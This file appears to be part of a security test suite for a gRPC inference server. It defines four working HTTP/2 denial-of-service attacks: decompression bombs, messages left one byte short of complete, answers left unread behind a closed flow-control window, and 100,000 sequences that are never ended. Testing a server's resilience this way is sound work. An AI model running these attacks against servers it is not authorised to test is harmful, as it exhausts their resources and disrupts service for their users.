"""Streams that are used against the server: bombs on many at once, messages without an end, answers left unread."""

import contextlib
import gzip
import time

from rnnserve.protos import inference_pb2 as pb

from ..attack import Strike, attack
from ..http2 import (
    END_HEADERS,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    Http2Connection,
    call_headers,
    frame,
    grpc_message,
)
from .noting import note_frames

__all__ = ["ATTACKS"]

_STREAMS = "streams used against the server"

_LARGE, _PART = 15_000_000, 1 << 18  # bytes


def _open(strike: Strike, connection: Http2Connection, count: int, *headers: tuple[str, str]) -> range:
    """Open streams, on each of which a valid request is answered."""
    block = call_headers(strike.target.path("ModelStreamInfer"), *headers)
    numbers = range(1, 2 * count, 2)
    for number in numbers:
        connection.send(frame(HEADERS, END_HEADERS, number, block), strike.until)
        connection.send_data(number, grpc_message(strike.target.valid), strike.until)
    return numbers


@attack(_STREAMS)
def bombs_on_open_streams(strike: Strike) -> None:
    """300 streams that have been answered, and then at once on each 15 MB of zeros, compressed to 15 kB."""
    request = strike.target.request()
    request.raw_input_contents[0] = bytes(_LARGE)
    bomb = grpc_message(gzip.compress(request.SerializeToString()), flag=1)
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        numbers = _open(strike, connection, 300, ("grpc-encoding", "gzip"))
        time.sleep(strike.left() / 4)
        for number in numbers:
            connection.send_data(number, bomb, strike.until)
        time.sleep(strike.left())
        note_frames(strike.answers, connection)


@attack(_STREAMS)
def unfinished_messages_on_streams(strike: Strike) -> None:
    """100 streams of 10 connections that send all of a message of 15 MB but its last byte, and wait."""
    message = grpc_message(bytes(_LARGE))[:-1]
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(Http2Connection(strike.target.host, strike.target.port)) for _ in range(10)]
        for connection in connections:
            numbers = _open(strike, connection, 10)
        sent = {(connection, number): 0 for connection in connections for number in numbers}
        while strike.left() and min(sent.values()) < len(message):
            for connection, number in sent:
                at = sent[connection, number]
                until = min(strike.until, time.monotonic() + 0.05)
                sent[connection, number] += connection.send_data(number, message[at : at + _PART], until)
        time.sleep(strike.left())
        strike.answers.note("SENT", f"{sum(sent.values()) >> 20} MB")
        for connection in connections:
            note_frames(strike.answers, connection)


@attack(_STREAMS)
def unread_answers_on_streams(strike: Strike) -> None:
    """300 streams with 100 requests each, on a connection that opens no window for their answers."""
    with Http2Connection(strike.target.host, strike.target.port, ((INITIAL_WINDOW_SIZE, 0),)) as connection:
        numbers = _open(strike, connection, 300)
        message = grpc_message(strike.target.request(64, 4).SerializeToString())
        for _ in range(100):
            if not all(connection.send_data(number, message, strike.until) == len(message) for number in numbers):
                break
        note_frames(strike.answers, connection)


@attack(_STREAMS)
def sequences_without_end(strike: Strike) -> None:
    """Sequences that are started on one stream, one after another, and never ended."""
    request = strike.target.request()
    with Http2Connection(strike.target.host, strike.target.port) as connection:
        (number,) = _open(strike, connection, 1)
        for identity in range(1, 100_000):
            request.parameters["sequence_id"].CopyFrom(pb.InferParameter(int64_param=identity))
            request.parameters["sequence_start"].CopyFrom(pb.InferParameter(bool_param=True))
            message = grpc_message(request.SerializeToString())
            if connection.send_data(number, message, strike.until) < len(message):
                break
        note_frames(strike.answers, connection)


ATTACKS = (
    bombs_on_open_streams,
    unfinished_messages_on_streams,
    unread_answers_on_streams,
    sequences_without_end,
)
